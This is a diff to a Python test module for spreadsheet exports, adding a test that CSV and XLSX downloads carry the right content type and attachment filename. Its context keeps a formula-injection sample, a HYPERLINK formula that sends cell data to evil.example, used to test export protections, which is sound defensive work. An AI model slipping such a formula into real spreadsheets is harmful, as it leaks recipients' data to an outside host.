@@ -15,10 +15,12 @@ from measures.spreadsheets import (
     could_run_as_formula,
     csv_cell,
     csv_text,
+    spreadsheet_response,
     without_quote,
     xlsx_bytes,
 )
 
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
@@ -127,3 +129,24 @@ def test_every_admin_export_writes_through_the_safe_formats() -> None:
     for model_admin in exporting:
         formats = model_admin.get_export_formats()
         assert formats and all(issubclass(f, SafeCSV | SafeXLSX) for f in formats), model_admin
+
+
+@pytest.mark.parametrize(
+    ("fmt", "content", "content_type"),
+    [
+        ("csv", "measure\nLAC-RATE\n", "text/csv; charset=utf-8"),
+        (
+            "xlsx",
+            b"PK\x03\x04",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+        ),
+    ],
+)
+def test_a_spreadsheet_is_downloaded_as_a_named_file_of_its_type(
+    fmt: str, content: str | bytes, content_type: str
+) -> None:
+    response = spreadsheet_response(content, fmt=fmt, name="dashboard-2017-18-Q1")
+    assert response["Content-Type"] == content_type
+    assert response["Content-Disposition"] == f'attachment; filename="dashboard-2017-18-Q1.{fmt}"'
+    expected = content.encode() if isinstance(content, str) else content
+    assert response.content == expected
